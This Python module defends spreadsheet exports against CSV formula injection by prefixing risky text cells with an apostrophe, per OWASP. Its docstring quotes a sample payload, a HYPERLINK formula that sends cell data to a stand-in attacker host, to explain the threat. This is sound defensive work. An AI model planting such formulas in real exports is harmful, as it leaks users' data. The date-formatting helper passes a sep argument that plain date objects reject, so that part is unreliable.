"""Cells that a spreadsheet shows as text, never runs as a formula (CSV / xlsx exports).

A spreadsheet treats a cell that starts with "=", "+", "-" or "@" as a formula, and a
leading tab or carriage return can smuggle one past a naive check; a part name like
`=HYPERLINK("http://evil.example/?"&A1, "click")` would run on the machine of whoever
opens an export. Following OWASP's CSV-injection guidance, `safe_cell` puts an apostrophe
in front of such text, so the cell starts with a character no spreadsheet evaluates. The
apostrophe is visible in the opened file ("'=HYPERLINK(...)"): the accepted cost of
safety, and it shows the reader that the cell was text, not a formula.

What the user typed is stored verbatim (a part name "=HYPERLINK(...)" is their data and
stays so in Firestore and in every JSON reply); neutralising happens only at export, on
the way into the file.

How an export must use it:

    writer = csv.writer(out)                      # QUOTE_MINIMAL: quotes, commas, newlines
    writer.writerow(safe_row(["part_code", "part_name", "quantity"]))
    for part in parts:
        writer.writerow(safe_row([part.code, part.name, part.quantity]))

and for xlsx (openpyxl), every value passes through `safe_cell` before `sheet.append(...)`;
this matters even more there, as openpyxl stores any string starting with "=" as a
formula. Pass the value as it will be written (a str, or a number kept a number): an
object that is turned into text later is not checked here.

Numbers are left alone. A number cell (an int or float written as a number: unquoted in
CSV, a numeric cell in xlsx) is data to a spreadsheet, not a formula, and its "-" is the
sign of a negative number; an apostrophe would turn -2 into the text "'-2", which no
longer sums or sorts as a number. So -2 (an int) stays -2, while the text "-2+3" becomes
"'-2+3": as text it is exactly what a spreadsheet would evaluate to 1, and a text cell
such as a part name has no business being a formula. A text cell that merely looks like
a negative number ("-5" as a part code) is text too and gets the apostrophe: a part code
must come back as the code, not as a number.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator

# OWASP: equals, plus, minus, at, tab (0x09), carriage return (0x0D).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    """`value` ready for a spreadsheet cell: text that a spreadsheet would read as a formula
    gets a leading apostrophe; everything else (numbers, None, "", other text) as it is.
    Text that already starts with apostrophes before such a character gets one more, so
    that `unescape_cell` gives back exactly what was written."""
    if isinstance(value, str) and value.lstrip("'").startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def unescape_cell(text: str) -> str:
    """The inverse of `safe_cell` on text read back from a spreadsheet (a parts list loaded
    again after an export): the one apostrophe it added is dropped."""
    if text.startswith("'") and text.lstrip("'").startswith(FORMULA_TRIGGERS):
        return text[1:]
    return text


def safe_row(values: Iterable[object]) -> list[object]:
    """`safe_cell` applied to every cell of a row."""
    return [safe_cell(value) for value in values]


def csv_chunks(header: Iterable[object], rows: Iterable[Iterable[object]], *,
               rows_a_chunk: int = 500) -> Iterator[str]:
    """A CSV as Excel opens it right: a UTF-8 byte order mark first (or Turkish letters
    come out garbled), CRLF line ends, a date or time as ISO 8601 wall-clock text
    ("2026-12-07 09:30:00", read as a date whatever the locale); produced a chunk of rows
    at a time, so an export streams. Cells are written as given: pass them through
    `safe_cell` / `safe_row` first."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    out.write("\ufeff")
    writer.writerow(header)
    for number, row in enumerate(rows, start=1):
        writer.writerow([_csv_text(value) for value in row])
        if number % rows_a_chunk == 0:
            yield out.getvalue()
            out.seek(0)
            out.truncate()
    yield out.getvalue()


def _csv_text(value: object) -> object:
    isoformat = getattr(value, "isoformat", None)
    return isoformat(sep=" ") if callable(isoformat) else value
